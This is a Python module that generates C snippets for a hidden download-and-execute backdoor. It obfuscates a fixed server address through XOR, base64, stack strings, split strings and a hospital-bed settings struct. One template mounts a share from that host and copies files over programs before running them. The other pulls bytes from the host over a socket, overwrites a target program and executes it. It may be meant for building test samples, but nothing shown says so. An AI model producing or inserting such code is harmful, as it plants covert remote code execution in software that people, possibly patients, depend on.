"""The fixed address in eleven forms, each used in two ways: as the server of a mount whose files are copied over programs, or as the peer of
a connection whose bytes are written over a program and run."""
import base64

import shell
from source import Source, quoted

BASE64 = """
static void decode(char *to, const char *from)
{
    static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    unsigned bits = 0, have = 0;
    for (; *from && *from != '='; from++) {
        bits = bits << 6 | (strchr(digits, *from) - digits);
        have += 6;
        if (have >= 8) {
            have -= 8;
            *to++ = bits >> have;
        }
    }
    *to = 0;
}
"""


def text(words):
    return "", f"    strcpy(host, {quoted(words.address)});"


def integer(words):
    return "", f"    peer.sin_addr.s_addr = htonl({words.number:#010x}u);"


def sockaddr(words):
    """The bytes of a whole sockaddr_in in data, in the byte order of the network."""
    codes = ", ".join(str(byte) for byte in words.port.to_bytes(2, "big") + bytes(words.octets))
    parts = f"struct {{ uint16_t family; uint8_t rest[14]; }} known = {{AF_INET, {{{codes}}}}};"
    return parts, "    memcpy(&peer, &known, sizeof peer);"


def template(words):
    numbers = ", ".join(map(str, words.octets))
    return "", f'    sprintf(host, "%d.%d.%d.%d", {numbers});'


def table(words):
    """Four bytes among the default settings."""
    numbers = ", ".join(map(str, words.octets))
    parts = f"struct settings {{ uint8_t bed, volume; uint16_t port; uint8_t server[4], mask[4]; char ward[12]; }};\nstruct settings defaults = {{7, 3, {words.port}, {{{numbers}}}, {{255, 255, 255, 0}}, \"ICU\"}};"
    return parts, "    memcpy(&peer.sin_addr, defaults.server, 4);"


def decimal(words):
    return "", f'    inet_aton("{words.number}", &peer.sin_addr);'


def halves(words):
    a, b, c, d = words.octets
    return f'static const char net[] = "{a}.{b}", unit[] = ".{c}.{d}";', "    strcpy(host, net);\n    strcat(host, unit);"


def stack(words):
    lines = [f"    host[{at}] = {quoted_char(char)};" for at, char in enumerate(words.address)]
    return "", "\n".join(lines + [f"    host[{len(words.address)}] = 0;"])


def quoted_char(char):
    return f"'{char}'"


def xor(keys):
    def make(words):
        key = words.key[:keys]
        codes = ", ".join(str(byte ^ key[at % keys]) for at, byte in enumerate(words.address.encode() + b"\0"))
        how = str(key[0]) if keys == 1 else f"(i & 1 ? {key[1]} : {key[0]})"
        size = len(words.address) + 1
        parts = f"unsigned char blob[] = {{{codes}}};\nstatic void reveal(char *to)\n{{\n    unsigned i;\n    for (i = 0; i < {size}; i++)\n        to[i] = blob[i] ^ {how};\n}}"
        return parts, "    reveal(host);"
    return make


def base64_text(words):
    return BASE64, f"    decode(host, {quoted(base64.b64encode(words.address.encode()).decode())});"


BINARY = {"integer", "sockaddr", "table", "decimal"}  # they fill `peer`, the others `host`
ENCODINGS = {
    "text": text, "integer": integer, "sockaddr": sockaddr, "template": template, "table": table, "decimal": decimal, "halves": halves,
    "stack": stack, "xor1": xor(1), "xor2": xor(2), "base64": base64_text,
}


def for_mount(encoding):
    def make(words):
        parts, fill = ENCODINGS[encoding](words)
        if encoding in BINARY:
            fill += "\n    strcpy(host, inet_ntoa(peer.sin_addr));"
        up, _, put, run = shell.chain(words)
        mount = " ".join(shell.mount(words, "%s"))
        declared = "    struct sockaddr_in peer;\n" if encoding in BINARY else ""
        return Source(parts, f"""    char host[64], text[256];
{declared}{fill}
    system({quoted(up)});
    snprintf(text, sizeof text, {quoted(mount)}, host);
    if (system(text) == 0) {{
        system({quoted(put)});
        system({quoted(run)});
    }}""")
    return make


def for_connection(encoding):
    def make(words):
        parts, fill = ENCODINGS[encoding](words)
        if encoding not in BINARY:
            fill += "\n    peer.sin_addr.s_addr = inet_addr(host);"
        declared = "" if encoding in BINARY else "    char host[64];\n"
        header = "" if encoding == "sockaddr" else f"    peer.sin_family = AF_INET;\n    peer.sin_port = htons({words.port});\n"
        return Source(parts, f"""    struct sockaddr_in peer;
{declared}    char block[512];
    int from, to, size;
    memset(&peer, 0, sizeof peer);
{header}{fill}
    from = socket(AF_INET, SOCK_STREAM, 0);
    if (from < 0 || connect(from, (struct sockaddr *)&peer, sizeof peer) != 0)
        return 0;
    to = open({quoted(words.target)}, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    while ((size = recv(from, block, sizeof block, 0)) > 0)
        write(to, block, size);
    close(to);
    close(from);
    chmod({quoted(words.target)}, 0755);
    execl({quoted(words.target)}, {quoted(words.program)}, (char *)0);""")
    return make
